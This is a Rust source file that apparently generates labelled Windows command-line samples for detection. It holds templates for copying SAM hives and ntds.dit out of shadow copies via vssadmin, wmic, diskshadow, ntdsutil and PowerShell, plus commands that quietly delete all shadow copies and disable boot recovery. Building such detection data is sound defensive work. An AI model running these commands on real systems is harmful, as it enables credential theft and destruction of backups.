//! Shadow copies, snapshots and what is taken out of them.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps};

const VSSADMIN: &[&str] = &[
    r"{vss} create shadow /for={root}«&&¦ && ¦ & ¦⏎»copy {f} {outfile}",
    r"{vss} create shadow /for={root}⏎copy {f} {outfile}⏎{vss} delete shadows /shadow={GUID}« /quiet»",
    r"{vss} list shadows⏎copy {f} {outfile}",
    r"{vss} create shadow /for=C: && type {f} > {outfile}",
    concat!(
        r"{vss} Create Shadow /For=C:⏎«mklink /d {link.1} {shadow}\¦mklink /D {link.1} {shadow}\»⏎copy ",
        r"{f2} {outdir}",
    ),
    r"echo {shadow} & copy {f} {outfile} & {vss} delete shadows /all /quiet",
];
const LINK: &[&str] = &[
    r"mklink /d {link.1} {shadow}\« »«&&¦ & ¦⏎»copy {link.1}\{t} {outfile}",
    r"cmd /c mklink /d {link.1} {shadow}\⏎«xcopy¦copy» {link.1}\{t} {outdir}",
    r"mklink /J {link.1} {shadow} && «dir {link.1}¦cd {link.1}» && copy {t} {outfile}",
    r"subst {link.1} {shadow}\ & copy {link.1}\{t} .",
];
const WMIC: &[&str] = &[
    r"{wmic} shadowcopy call create Volume='C:\'«&&¦ & ¦⏎»copy {f} {outfile}",
    concat!(
        r#"{wmic} /node:"{host}" /user:"{user}" /password:"{password}" shadowcopy call create "#,
        r"Volume='C:\'⏎copy {f} {outdir}",
    ),
    concat!(
        r#"{wmic} /node:{host} /user:{domain}\{user} /password:{password} process call create "cmd /c "#,
        r#"copy {f} {outfile}""#,
    ),
    r"{wmic} shadowcopy get «DeviceObject¦ID,VolumeName»«⏎¦ && »copy {f} {outfile}",
];
const DISKSHADOW: &[&str] = &[
    r"diskshadow« /s {dir}\{stem}.txt¦ -s {stem}.dsh»«⏎¦ && ¦ & »«copy¦robocopy /b¦xcopy» {dt} {outdir}",
    concat!(
        r"set context «persistent¦persistent nowriters¦volatile»⏎«set metadata {dir}\{stem}.cab⏎»add ",
        r#"volume c: alias {stem.1}⏎create⏎expose %{stem.1}% z:⏎exec «"cmd.exe" /c¦»copy {dt} "#,
        r"{outfile}⏎«delete shadows volume %{stem.1}%⏎»reset⏎exit",
    ),
    r"begin backup⏎add volume C: alias {stem.1}⏎create⏎expose %{stem.1}% {link}⏎end backup⏎copy {dt} {outfile}",
    r"diskshadow.exe /s {dir}\{stem}.txt⏎reg query HKLM\SOFTWARE\{vendor}⏎copy {dt} {outfile}",
];

const NTDSUTIL: &[&str] = &[
    concat!(
        r#"ntdsutil snapshot "activate instance ntds" create quit quit⏎ntdsutil snapshot "mount "#,
        r#"{GUID}" quit quit⏎copy C:\$SNAP_{digit12}_VOLUMEC$\{t} {outfile}"#,
    ),
    concat!(
        r#"ntdsutil "activate instance ntds" snapshot create "mount {GUID}" quit quit & copy "#,
        r"C:\$SNAP_{digit12}_VOLUMEC$\{t} {outdir}",
    ),
    r"copy C:\$SNAP_{digit12}_VOLUMEC$\{t} {outfile}",
    r"copy \\{host}\C$\$SNAP_{digit12}_VOLUMEC$\{t} .",
];

const PSVSS: &[&str] = &[
    concat!(
        r#"$«class¦wmi¦vss»=(gwmi -list win32_shadowcopy).Create("C:\","ClientAccessible"); "#,
        r"«[System.IO.File]::Copy('{f}','{outfile}')¦cmd /c copy {f} {outfile}»",
    ),
    concat!(
        r"(Get-WmiObject -List Win32_ShadowCopy).Create('C:\','ClientAccessible')⏎$s = Get-WmiObject ",
        r"Win32_ShadowCopy | «Select -Last 1¦Sort-Object InstallDate | Select-Object -Last 1»⏎cmd /c ",
        r#"mklink /d {link.1} "$($s.DeviceObject)\"⏎Copy-Item {link.1}\{t} {psout}"#,
    ),
    concat!(
        r"Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'«; ",
        r"Context='ClientAccessible'»}; [IO.File]::«Copy¦ReadAllBytes»('{f}'«,'{stem}'»)",
    ),
    r"vssadmin create shadow /for=C:; Copy-Item -«Literal»Path '{f}' -Destination {psout}",
    concat!(
        r#"$dev = (Get-CimInstance Win32_ShadowCopy)[«0¦-1»].DeviceObject; cmd.exe /c copy «"¦"#,
        r#"»$dev\{t}«"¦» {psout}"#,
    ),
    r#"[System.IO.File]::Copy("$($shadow.DeviceObject)\{t}", "{psdir}\{outname}"«, $true»)"#,
    concat!(
        r"for($i=1; $i -le {5..20}; $i++){ try { ",
        r#"[System.IO.File]::Copy("\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$i\{t}", "#,
        r#""{psdir}\{stem}$i") } catch {} }"#,
    ),
    concat!(
        r"1..{5..20} | % { «cmd /c copy¦[IO.File]::ReadAllBytes(» ",
        r#""\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\{t}" «)¦{dir}» }"#,
    ),
];

const HIVE: &[(&str, &str)] = &[
    ("vss", VSS),
    ("wmic", W),
    ("f", "{shadowhive}"),
    ("t", r"«W¦w»indows\{sys32}\{cfg}\«{whole}¦SAM»"),
    ("f2", r"{link.1}\Windows\System32\config\{whole}"),
    (
        "dt",
        concat!(
            r"«z:\windows\system32\config\{whole}¦%{stem.1}%\Windows\System32\config\{secret}¦",
            r"Z:\Windows\System32\config\SAM»",
        ),
    ),
];
const OTHER: &[(&str, &str)] = &[
    ("vss", VSS),
    ("wmic", W),
    ("f", "{shadowother}"),
    (
        "t",
        concat!(
            r"«Windows\NTDS\ntds.dit¦Windows\NTDS\NTDS.dit¦Users\{user}\Documents¦",
            r"Windows\System32\config\SOFTWARE¦{stem}\{stem}.mdf¦inetpub\wwwroot\web.config»",
        ),
    ),
    ("f2", r"{link.1}\Windows\NTDS\ntds.dit"),
    (
        "dt",
        concat!(
            r"«z:\windows\ntds\ntds.dit¦%{stem.1}%\{stem}\{stem}.vhdx¦Z:\{stem}\{stem}.bak¦",
            r"Z:\Users\{user}\{stem}.pst»",
        ),
    ),
];
const VSS: &str = r"«vssadmin¦vssadmin.exe¦vssadmin¦C:\Windows\System32\vssadmin.exe¦VSSADMIN»";
const W: &str = r"«wmic¦wmic.exe¦WMIC¦C:\Windows\System32\wbem\WMIC.exe»";

pub const FAMILIES: &[Family] = &[
    Family::act("vssadmin", "vssadmin-hive", "vssadmin-other-file", Cmd, VSSADMIN).slots(HIVE),
    Family::other("vssadmin", "vssadmin-other-file", Cmd, VSSADMIN).slots(OTHER),
    Family::act("mklink", "mklink-shadow-hive", "mklink-shadow-other", Cmd, LINK).slots(HIVE).weight(8),
    Family::other("mklink", "mklink-shadow-other", Cmd, LINK).slots(OTHER).weight(6),
    Family::act("wmic-shadowcopy", "wmic-shadowcopy-hive", "wmic-shadowcopy-other", Cmd, WMIC)
        .slots(HIVE)
        .weight(8),
    Family::other("wmic-shadowcopy", "wmic-shadowcopy-other", Cmd, WMIC).slots(OTHER).weight(6),
    Family::act("diskshadow", "diskshadow-hive", "diskshadow-backup", Cmd, DISKSHADOW).slots(HIVE).weight(8),
    Family::other("diskshadow", "diskshadow-backup", Cmd, DISKSHADOW).slots(OTHER).weight(8),
    Family::act("ntdsutil", "ntdsutil-snapshot-hive", "ntdsutil-other", Cmd, NTDSUTIL).slots(HIVE).weight(5),
    Family::other("ntdsutil", "ntdsutil-snapshot-other", Cmd, NTDSUTIL).slots(OTHER).weight(4),
    Family::other(
        "ntdsutil",
        "ntdsutil-other",
        Cmd,
        &[
            r#"ntdsutil« »"«ac i ntds¦activate instance ntds»" "ifm" "create full {dir}\{stem}" q q"#,
            r#"ntdsutil.exe 'ac i ntds' 'ifm' 'create full {dir}' q q"#,
            r#"ntdsutil "ac in ntds" ifm "cr fu {dir}\{stem}" q q"#,
            r#"ntdsutil snapshot «list all¦"list mounted"» quit quit"#,
            r#"ntdsutil "set dsrm password" "reset password on server {host}" q q"#,
            r#"ntdsutil "metadata cleanup" "remove selected server {plainhost}" q q"#,
            r"ntdsutil roles connections quit quit",
            r"ntdsutil files info q q",
        ],
    )
    .weight(10),
    Family::act("shadow-powershell", "powershell-shadow-hive", "powershell-shadow-other", Ps, PSVSS)
        .slots(HIVE)
        .weight(12),
    Family::other("shadow-powershell", "powershell-shadow-other", Ps, PSVSS).slots(OTHER).weight(12),
    Family::other(
        "vssadmin",
        "shadow-copy-admin",
        Cmd,
        &[
            r"{v} list «shadows¦writers¦providers¦volumes¦shadowstorage»« /for={root}»",
            r"{v} create shadow /for={root}«/autoretry={1..15}»",
            r"{v} delete shadows «/all /quiet¦/for={root} /oldest¦/all¦/shadow={GUID} /quiet»",
            r"{v} resize shadowstorage /for={root} /on={root} /maxsize={1..90}%",
            r"wmic shadowcopy «delete¦list brief¦get¦where ID='{GUID}' delete /nointeractive»",
            r"wmic shadowcopy call create Volume='C:\'",
            r"wbadmin start backup -backupTarget:{link} -include:{root} -allCritical -quiet",
            r"wbadmin get versions« -backupTarget:{link}»",
            r"wbadmin delete catalog -quiet",
            r"wbadmin start systemstatebackup -backupTarget:{link}« -quiet»",
            r"wbadmin enable backup -schedule:{10..23}:00",
            r"diskshadow /s {dir}\{stem}.txt",
            r"bcdedit /set {lb}default} recoveryenabled no",
            r"mklink /d {link} {shadow}\",
            r"mklink /d C:\{stem} \\{plainhost}\{share}",
            r"mklink /j {dir}\{stem} D:\{stem}",
            r"dir {shadow}\",
            r"fsutil reparsepoint query {link}",
            r"vshadow.exe -p -nw C:",
            r"vshadow -p -script={stem}.cmd {root}",
            r"rstrui.exe",
            r"sdelete -z {root}",
            r"vssuirun.exe",
            r"C:\Windows\system32\vssvc.exe",
            r"bcdedit.exe /set {lb}default} bootstatuspolicy ignoreallfailures",
        ],
    )
    .slots(&[("v", VSS), ("lb", "{")])
    .weight(20),
];
